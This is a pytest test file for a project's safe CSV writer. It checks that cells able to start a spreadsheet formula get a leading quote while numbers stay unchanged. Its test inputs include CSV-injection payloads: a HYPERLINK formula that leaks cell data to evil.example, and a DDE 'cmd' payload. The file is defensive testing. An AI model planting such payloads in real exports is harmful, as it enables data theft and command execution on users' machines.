"""The project's one CSV writer: text a spreadsheet would run as a formula is neutralised,
numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest

from portal.csvwriter import SafeWriter, csv_response, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A2,"Alice")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_that_starts_a_formula_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Alice", "", "a=b", " =1", "'quoted", "Zoë"])
def test_other_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("number", [-3, -1.5, Decimal("-2.50"), 0, 7, None])
def test_numbers_stay_numbers(number):
    assert safe_cell(number) is number


def test_the_writer_and_the_response_apply_it_to_every_cell():
    out = io.StringIO()
    SafeWriter(out).writerows([["=1+1", -4, Decimal("-0.50")], ["@x", "ok", "-y"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+1", "-4", "-0.50"],
        ["'@x", "ok", "'-y"],
    ]
    response = csv_response(filename="x.csv", header=["=name"], rows=[["+a", 1]])
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response.content.decode().splitlines() == ["'=name", "'+a,1"]
